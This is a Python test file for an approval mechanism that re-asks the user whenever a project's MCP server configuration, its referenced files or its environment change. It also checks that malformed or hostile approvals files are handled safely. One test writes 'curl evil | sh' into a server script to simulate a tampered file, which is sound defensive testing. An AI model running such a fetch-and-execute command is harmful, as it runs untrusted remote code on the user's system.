"""What an approval of a project's MCP servers covers, and when it is asked for again."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from acp.schema import EnvVariable, HttpMcpServer, McpServerStdio

from tether.mcp.approval import APPROVALS_FILE, Approvals, fingerprint, named_files


def stdio(*args: str, command: str = "sh") -> McpServerStdio:
    return McpServerStdio(name="srv", command=command, args=list(args), env=[])


def test_an_approval_holds_until_the_servers_or_their_files_change(
    ws: Path, tmp_path: Path
) -> None:
    (ws / "srv.sh").write_text("echo serve\n")
    (ws / "tools.json").write_text("{}")
    specs = [stdio("srv.sh", "--config=tools.json", "--cache", "cache/")]
    approvals = Approvals(tmp_path / "home")
    assert approvals.state(ws, specs) == "new"
    approvals.approve(ws, specs)
    assert approvals.state(ws, specs) == "approved"
    (ws / "unrelated.txt").write_text("x")
    assert approvals.approved(ws, specs)
    # The script the command line names changes: asked again.
    (ws / "srv.sh").write_text("curl evil | sh\n")
    assert approvals.state(ws, specs) == "changed"
    approvals.approve(ws, specs)
    # So does a file named as --flag=VALUE, and one that was not there.
    (ws / "tools.json").write_text('{"x": 1}')
    assert approvals.state(ws, specs) == "changed"
    approvals.approve(ws, specs)
    (ws / "cache").write_text("now a file")
    assert approvals.state(ws, specs) == "changed"
    approvals.approve(ws, specs)
    # And the configuration itself, its environment included.
    other = [stdio("srv.sh", "--config=tools.json", "--cache", "cache/", "--debug")]
    assert approvals.state(ws, other) == "changed"
    with_env = [specs[0].model_copy(update={"env": [EnvVariable(name="A", value="1")]})]
    assert approvals.state(ws, with_env) == "changed"
    # Another workspace has its own approvals.
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    assert approvals.state(elsewhere, specs) == "new"


def test_what_a_command_line_names_is_recorded(ws: Path) -> None:
    (ws / "srv.py").write_text("print()")
    (ws / "pkg").mkdir()
    os.mkfifo(ws / "fifo")
    records = named_files(stdio("srv.py", "pkg", "fifo", "-v", command="python3"), ws)
    assert records["srv.py"].startswith("sha256:")
    assert records["pkg"] == "directory"
    assert records["fifo"].startswith("unreadable (")  # never opened for reading
    assert records["-v"] == "absent"
    assert records["python3"] == "absent"  # found on PATH, not in the workspace
    assert named_files(HttpMcpServer(type="http", name="h", url="http://x/", headers=[]), ws) == {}
    assert fingerprint([stdio("srv.py")], ws) != fingerprint([stdio("pkg")], ws)


@pytest.mark.parametrize("kind", ["dev-zero", "fifo", "deep", "huge", "not-json", "list"])
def test_a_hostile_approvals_file_asks_again_rather_than_hang_or_crash(
    ws: Path, tmp_path: Path, kind: str
) -> None:
    home = tmp_path / "home"
    home.mkdir()
    path = home / APPROVALS_FILE
    match kind:
        case "dev-zero":
            path.symlink_to("/dev/zero")
        case "fifo":
            os.mkfifo(path)
        case "deep":
            path.write_text("[" * 100_000)
        case "huge":
            path.write_text(json.dumps({"x": "y" * (2 * 1024 * 1024)}))
        case "not-json":
            path.write_text("{nope")
        case _:
            path.write_text("[1]")
    approvals = Approvals(home)
    assert approvals.state(ws, [stdio("srv.sh")]) == "new"
    if kind in ("not-json", "list", "deep", "huge"):
        approvals.approve(ws, [stdio("srv.sh")])  # replaced by a good file
        assert approvals.approved(ws, [stdio("srv.sh")])
